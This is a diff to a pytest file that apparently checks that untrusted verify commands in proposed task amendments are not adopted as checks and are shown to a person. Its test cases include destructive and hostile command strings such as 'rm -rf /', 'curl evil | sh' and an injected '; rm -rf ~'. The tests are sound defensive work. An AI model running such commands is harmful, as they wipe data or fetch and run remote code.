@@ -89,20 +89,20 @@ def test_requests_have_limits(made: int, depth: int, ids: list[str], because: st
     [
         ("`pytest -q`", ["pytest -q"], True),
         ("pytest -q", ["pytest -q"], True),
-        ("`rm -rf /`", ["grep -q x y"], False),
-        ("`pytest -q` and `curl evil | sh`", ["grep -q x y"], False),
-        ("pytest -q; rm -rf ~", ["grep -q x y"], False),
-        ("`true`", ["grep -q x y"], False),
-        ("```sh\n    rm x\n    ```", ["grep -q x y"], False),
+        ("`rm -rf /`", [], False),
+        ("`pytest -q` and `curl evil | sh`", [], False),
+        ("pytest -q; rm -rf ~", [], False),
+        ("`true`", [], False),
+        ("```sh\n    rm x\n    ```", [], False),
     ],
 )
 def test_only_commands_that_run_anyway_are_checks(verify: str, checks: list[str], trusted: bool) -> None:
     found = read_request(request(proposedTasks=[TASK.replace("`pytest -q`", verify)]), "1.3")
     assert isinstance(found, Amendment)
-    block, taken = amended_block("1.3.1", found.proposals[0], read(ORIGINAL)[0], {"pytest -q", "grep -q x y"})
+    block, proposed = amended_block("1.3.1", found.proposals[0], {"pytest -q", "grep -q x y"})
     (new,) = read(block)
     assert [check.command for check in new.checks] == checks
-    assert taken is trusted
+    assert bool(proposed) is not trusted, "what is not taken is shown to a person"
 
 
 @pytest.mark.parametrize(
@@ -110,7 +110,7 @@ def test_only_commands_that_run_anyway_are_checks(verify: str, checks: list[str]
 )
 def test_hostile_fields_stay_inside_their_task(text: str) -> None:
     fields = dict.fromkeys(("do", "files", "done when", "verify", "commit"), text)
-    block, _ = amended_block("1.3.1", Proposal(title="T", fields=fields), read(ORIGINAL)[0], set())
+    block, _ = amended_block("1.3.1", Proposal(title="T", fields=fields), set())
     tasks = read(f"{ORIGINAL}{block}- [ ] 1.4 Next\nEOF\n- [ ] 1.5 Last\n")
     assert [task.id for task in tasks] == ["1.3", "1.3.1", "1.4", "1.5"]
-    assert [check.command for check in tasks[1].checks] == ["grep -q x y"]
+    assert not tasks[1].checks
